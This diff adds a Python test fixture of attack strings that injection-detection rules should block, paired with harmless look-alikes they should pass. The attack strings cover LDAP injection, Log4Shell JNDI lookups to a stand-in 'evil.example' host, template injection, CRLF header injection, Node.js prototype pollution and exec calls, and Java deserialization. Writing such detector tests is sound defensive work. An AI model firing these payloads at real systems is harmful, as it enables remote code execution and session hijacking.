@@ -1,0 +1,43 @@
+"""Should-block / should-pass payloads of the ``rules/managed/attacks_injection.py`` classes (see ``cases.py``)."""
+
+from __future__ import annotations
+
+from tests.rules.case import Case
+
+CASES: tuple[Case, ...] = (
+    Case(
+        "LDAPInjection",
+        ("admin)(|(password=*", "*)(uid=*))(|(uid=*", "john)(sn~=smith"),
+        ("(see above)", "Smith (née Jones)", "see chapter (2) notes"),
+    ),
+    Case(
+        "Log4JRCE",
+        ("${jndi:ldap://evil.example/a}", "${${lower:j}ndi:dns://x}", "${${::-j}${::-n}di:rmi://x/a}"),
+        ("${HOME} is set", "price: $ {100}", "jndi is a Java API"),
+    ),
+    Case(
+        "TemplateInjection",
+        ("{{7*7}}", "{{''.__class__.__mro__[1].__subclasses__()}}", "<%= 7*7 %>", "${7*7}"),
+        ("Hello {{ name }}!", "{% raw %}", "a*b = 7*7"),
+    ),
+    Case(
+        "CRLFInjection",
+        ("\r\nSet-Cookie: session=attacker", "en\r\nLocation: http://evil.example/"),
+        ("line one\r\nline two", "Location: Berlin"),
+    ),
+    Case(
+        "CRLFInjectionBody",
+        ("x\r\nSet-Cookie: a=b", "\r\nLocation: https://evil.example/"),
+        ("Order notes\r\nDelivery: leave at the door", "first\r\nsecond"),
+    ),
+    Case(
+        "NodeJSInjection",
+        ('{"__proto__": {"isAdmin": true}}', "require('child_process').exec('id')", "_$$ND_FUNC$$_function(){}()", "while(true);", "new Function ("),
+        ("While you wait, read this", "The __proto__ property is deprecated", "the child process of adoption", "Use `console.log(x)` to debug"),
+    ),
+    Case(
+        "JavaDeserializationRCE",
+        ("rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA", "java.lang.Runtime.getRuntime().exec('id')", "ProcessBuilder"),
+        ("I love Java and coffee", "runtime error on page 3", "java coffee beans"),
+    ),
+)
